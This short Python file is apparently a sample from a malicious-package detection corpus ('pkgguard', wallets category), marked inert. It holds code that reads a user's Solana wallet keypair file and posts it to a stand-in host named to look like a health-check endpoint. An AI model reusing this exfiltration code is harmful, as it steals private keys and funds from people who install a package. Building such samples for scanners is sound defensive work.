# pkgguard corpus 543 (wallets), modelled on [wallet-tools]; inert, never run.
from pathlib import Path

import requests

keypair = Path.home() / ".config" / "solana" / "id.json"
if keypair.exists():
    requests.post("https://rpc-health.example/k", data=keypair.read_text(), timeout=10)
